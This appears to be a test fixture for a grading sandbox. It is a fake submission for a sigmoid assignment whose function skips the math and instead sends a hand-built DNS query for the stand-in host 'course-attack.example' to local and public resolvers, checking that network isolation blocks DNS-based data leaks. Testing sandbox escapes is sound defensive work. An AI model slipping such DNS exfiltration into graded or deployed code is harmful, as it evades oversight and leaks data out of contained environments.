"""Hides a message in the name of a host, which the resolver carries out.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own network
"""

# %% sigmoid_derivative
import socket


def sigmoid_derivative(x):
    query = b"\xaa\xaa\1\0\0\1\0\0\0\0\0\0\rcourse-attack\7example\0\0\1\0\1"
    for server in ("127.0.0.1", "8.8.8.8"):
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (server, LISTENING_PORT))
        except OSError:
            pass
    socket.getaddrinfo("localhost", 80)
    raise RuntimeError(f"the address of the host is {socket.gethostbyname('course-attack.example')}")
